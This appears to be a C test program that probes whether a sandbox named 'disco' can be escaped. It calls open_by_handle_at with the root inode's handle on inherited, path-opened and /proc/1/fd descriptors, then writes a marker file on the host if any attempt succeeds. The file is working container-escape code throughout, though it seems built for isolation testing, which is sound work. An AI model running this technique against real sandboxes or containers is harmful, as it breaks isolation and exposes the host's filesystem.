/* Tries to leave the sandbox through file handles: open_by_handle_at with
 * the handle of inode 2 (the root of an ext4/xfs filesystem) on every
 * descriptor it can get that refers to the host's filesystem. On success it
 * creates argv[1] (a path relative to the host's root) and says ESCAPED. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int try_fd(int fd, const char *what, const char *marker) {
    struct { struct file_handle h; unsigned int ino[2]; } fh;
    fh.h.handle_bytes = 8;
    fh.h.handle_type = 1; /* FILEID_INO32_GEN */
    fh.ino[0] = 2;
    fh.ino[1] = 0;
    int root = open_by_handle_at(fd, &fh.h, O_RDONLY | O_DIRECTORY);
    if (root < 0) {
        printf("blocked %s: %s\n", what, strerror(errno));
        return 0;
    }
    int m = openat(root, marker, O_CREAT | O_WRONLY, 0644);
    if (m >= 0) {
        write(m, "escaped\n", 8);
        close(m);
    }
    printf("ESCAPED via %s\n", what);
    return 1;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *paths[] = {"/run/disco/module", "/run/disco/params", "/run/disco/bin/disco",
                           "/run/disco/queue", "/", 0};
    int escaped = 0;
    /* Descriptors inherited from disco, before this opens any. */
    for (int n = 3; n < 64; n++) {
        char what[32];
        if (fcntl(n, F_GETFD) < 0) continue;
        snprintf(what, sizeof what, "inherited fd %d", n);
        printf("INHERITED fd %d\n", n);
        escaped |= try_fd(n, what, argv[1]);
    }
    for (int i = 0; paths[i]; i++) {
        int fd = open(paths[i], O_RDONLY);
        if (fd >= 0) {
            escaped |= try_fd(fd, paths[i], argv[1]);
            close(fd);
        }
    }
    /* Descriptors of the sandbox's init. */
    for (int n = 0; n < 64; n++) {
        char p[64], what[80];
        snprintf(p, sizeof p, "/proc/1/fd/%d", n);
        int fd = open(p, O_RDONLY);
        if (fd >= 0) {
            snprintf(what, sizeof what, "%s", p);
            escaped |= try_fd(fd, what, argv[1]);
            close(fd);
        } else if (errno != ENOENT) {
            printf("blocked %s: %s\n", p, strerror(errno));
        }
    }
    return escaped ? 0 : 1;
}
